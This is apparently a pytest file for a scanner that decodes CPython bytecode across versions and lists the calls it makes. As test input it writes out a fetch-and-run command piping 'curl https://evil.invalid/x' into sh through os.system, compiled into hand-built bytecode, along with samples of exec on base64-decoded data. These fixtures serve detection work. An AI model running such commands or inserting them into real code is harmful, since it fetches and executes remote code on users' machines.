"""Calls read out of instructions, whatever version of CPython they are of."""

import marshal
import time

import pytest

from scanner.decode import bytecode, marshal_reader

NAMES = ("os", "system")
CONSTS = (0, None, "curl https://evil.invalid/x | sh")


def cached(*instruction: int) -> bytes:
    return bytes(instruction) + bytes(2 * 4)


# import os; os.system("curl https://evil.invalid/x | sh")
COMPILED = {
    "3.8": bytes([100, 0, 100, 1, 108, 0, 90, 0, 101, 0, 160, 1, 100, 2, 161, 1, 1, 0, 100, 1, 83, 0]),
    "3.11": bytes([151, 0, 100, 0, 100, 1, 108, 0, 90, 0, 2, 0, 101, 0])
    + cached(106, 1)
    + bytes([100, 2, 166, 1, 0, 0])
    + cached(171, 1)
    + bytes([1, 0, 100, 1, 83, 0]),
    "3.12": bytes([151, 0, 100, 0, 100, 1, 108, 0, 90, 0, 101, 0])
    + cached(106, 3)
    + bytes([100, 2])
    + cached(171, 1)
    + bytes([1, 0, 121, 1]),
    "3.13": bytes([149, 0, 83, 0, 83, 1, 75, 0, 114, 0, 92, 0])
    + cached(82, 3)
    + bytes([83, 2])
    + cached(53, 1)
    + bytes([32, 0, 103, 1]),
    "3.14": bytes([128, 0, 94, 0, 82, 1, 73, 0, 116, 0, 93, 0])
    + cached(80, 3)
    + bytes([82, 2])
    + cached(52, 1)
    + bytes([31, 0, 82, 1, 35, 0]),
}


def listed(source: str) -> list[str]:
    code = marshal.dumps(compile(source, "m", "exec"))
    return marshal_reader.listing(marshal_reader.read_marshal(code))[0].splitlines()


@pytest.mark.parametrize("code", COMPILED.values(), ids=COMPILED.keys())
def test_a_call_reads_as_it_was_written(code: bytes) -> None:
    opcodes = bytecode.fitting([(code, len(NAMES))])
    assert opcodes is not None
    assert list(bytecode.calls_of(code, NAMES, CONSTS, opcodes)) == [
        "import os",
        "os.system('curl https://evil.invalid/x | sh')",
    ]


def test_a_listing_has_the_calls_of_each_function() -> None:
    lines = listed("import requests\ndef f(url):\n    return requests.post(HOST + '/x', data=url)\n")
    assert "import requests" in lines
    assert any(line.startswith("requests.post") for line in lines)


def test_calls_within_calls_are_written_inside_them() -> None:
    lines = listed("from base64 import b64decode as d\nexec(d('cGFzcw==').decode())\n")
    assert "from base64 import b64decode" in lines
    assert "exec(d('cGFzcw==').decode())" in lines


def test_instructions_of_no_known_version_are_left_alone() -> None:
    assert bytecode.fitting([(bytes([101, 0, 101, 7]) * 4, 2)]) is None
    assert bytecode.fitting([]) is None


def test_hostile_code_objects_are_listed_in_little_time() -> None:
    code = bytes([101, 0, 106, 1, 100, 0]) * 20_000
    item = marshal_reader.CodeObject(
        "f", "m", 1, ("a" * 100_000, "b" * 100_000), (), ("c" * 1_000_000, 1 << 900_000), code
    )
    item.consts = (*item.consts, *[item] * 3)
    started = time.process_time()
    text, _ = marshal_reader.listing((item,) * 3)
    assert time.process_time() - started < 5
    assert len(text) < 30_000_000
